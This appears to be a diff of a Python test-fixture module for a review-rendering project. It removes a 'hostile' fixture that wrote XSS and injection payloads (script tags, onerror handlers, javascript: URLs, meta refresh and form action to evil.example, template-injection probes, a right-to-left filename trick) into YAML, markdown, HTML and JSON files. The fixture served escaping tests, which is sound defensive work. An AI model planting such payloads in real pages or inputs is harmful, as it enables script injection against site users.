@@ -1,38 +1,11 @@
-"""Show folders no sensible desk would make: hostile, empty, lopsided, crowded. Written by tests into a folder of theirs."""
+"""Show folders no sensible desk would make: empty, lopsided, crowded. Written by tests into a folder of theirs."""
 
 from __future__ import annotations
 
-import json
-from collections.abc import Iterable
-from html import escape
 from pathlib import Path
 
 import yaml
 
-RUN = "window.pwned=1"
-PAYLOADS = (
-    f"<script>{RUN}</script>",
-    f"<img src=x onerror={RUN}>",
-    f"<svg onload={RUN}><a xlink:href='javascript:{RUN}'>slow</a></svg>",
-    f"<a href='javascript:{RUN}'>slow</a>",
-    f"[slow](javascript:{RUN}) ![fast](https://evil.example/x.png)",
-    f"</script><script>{RUN}</script>",
-    f"</style><script>{RUN}</script><style>body{{display:none}}",
-    f"<iframe srcdoc='<script>parent.{RUN}</script>' src='javascript:{RUN}'></iframe>",
-    f"<math><mi xlink:href='javascript:{RUN}'>slow</mi></math>",
-    f"<details open ontoggle={RUN}><summary>slow</summary></details>",
-    f'" onmouseover="{RUN}" autofocus onfocus=\'{RUN}\' x="',
-    "<base href='https://evil.example/'><link rel=stylesheet href='https://evil.example/x.css'>",
-    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
-    "<form action='https://evil.example/'><input name=q><button>slow</button></form>",
-    "<img src='https://evil.example/x.png'><video autoplay src='https://evil.example/x.mp4'></video>",
-    "<button popovertarget=p1 popover>slow</button><b id=matrix-controls hidden>x</b>",
-    "</main></body></html><plaintext>",
-    "<!-- <template> <!--> <![CDATA[ ]]>",
-    "{{ 7*7 }} {% raw %} ${7*7} %{customdata[0]} #{7*7}",
-    "\u202egnp.exe\u202c \u2028 \ufeff \x0c",
-)
-CLAIM = "The pace is slow, {}, and the writing is superb."
 PLAIN = ("It is a quiet and grounded show.", "There is no love triangle.", "The plot is predictable and the acting is superb.")  # fmt: skip
 SPANISH = "La serie es lenta y hermosa. Los protagonistas no hablan de lo que sienten, y el guion confía en su público. " * 6  # fmt: skip
 
@@ -41,46 +14,6 @@ def show(folder: Path, title: str, **more: object) -> Path:
     folder.mkdir(parents=True)
     (folder / "show.yaml").write_text(yaml.safe_dump({"title": title, **more}, allow_unicode=True), "utf-8")
     return folder
-
-
-def hostile(folder: Path, others: Iterable[str] = ()) -> Path:
-    """Every format, every field a payload; the others' payloads as paragraphs of the plain text."""
-    name = PAYLOADS[0] + " Kim"
-    made = show(
-        folder,
-        "".join(PAYLOADS[:4]),
-        leads={"female_lead": {"names": [name], "performers": [PAYLOADS[1]]}},
-        reviews={"plain": {"publisher": PAYLOADS[1], "author": PAYLOADS[2]}},
-    )
-    lines = [PAYLOADS[5], *(CLAIM.format(" ".join(p.split())) for p in (*PAYLOADS, *others) if p.strip())]
-    (made / "plain.txt").write_text("\n\n".join([*lines, f"{name} is cold."]), "utf-8", errors="ignore")
-    front = yaml.safe_dump(
-        {"title": PAYLOADS[3], "author": PAYLOADS[1], "tags": list(PAYLOADS), "url": f"javascript:{RUN}", "publisher": PAYLOADS[0]},
-    )  # fmt: skip
-    body = "\n\n".join(f"## {p}\n\n{CLAIM.format(p)}" for p in PAYLOADS[:-1])
-    (made / "marked.md").write_text(f"---\n{front}---\n\n# {PAYLOADS[1]}\n\n{body}\n", "utf-8")
-    raw = "".join(f"<h2>{escape(p)}</h2><p>{CLAIM.format(escape(p))}</p>" for p in PAYLOADS)
-    raw += "".join(f"<p>{CLAIM.format(p)}</p>" for p in PAYLOADS[:16])
-    page = "".join(
-        f"<h2>{escape(p)}</h2><p>It is quiet, {escape(p)}, and bold; nobody kisses.</p>" for p in PAYLOADS
-    )
-    page += "".join(f"<p>The leads talk, {p}, and they listen.</p>" for p in PAYLOADS[:16])
-    head = f"<title>{escape(PAYLOADS[0])}</title><meta name=author content='{escape(PAYLOADS[1])}'>"
-    head += f"<meta property='og:site_name' content='{escape(PAYLOADS[2])}'><link rel=canonical href='javascript:{RUN}'>"
-    (made / "saved.html").write_text(
-        f"<!doctype html><html lang=en><head>{head}</head><body><article><h1>{escape(PAYLOADS[1])}</h1>{page}</article></body></html>",
-        "utf-8",
-    )
-    post = {
-        "id": 1, "type": "post", "date": "2025-07-12T10:00:00", "link": f"javascript:{RUN}", "slug": "x",
-        "title": {"rendered": escape(PAYLOADS[1])}, "content": {"rendered": raw}, "excerpt": {"rendered": PAYLOADS[0]},
-        "_embedded": {
-            "author": [{"name": PAYLOADS[2]}],
-            "wp:term": [[{"taxonomy": "post_tag", "name": p, "slug": p} for p in PAYLOADS]],
-        },
-    }  # fmt: skip
-    (made / "served.json").write_text(json.dumps(post), "utf-8")
-    return made
 
 
 def odd(folder: Path) -> list[Path]:
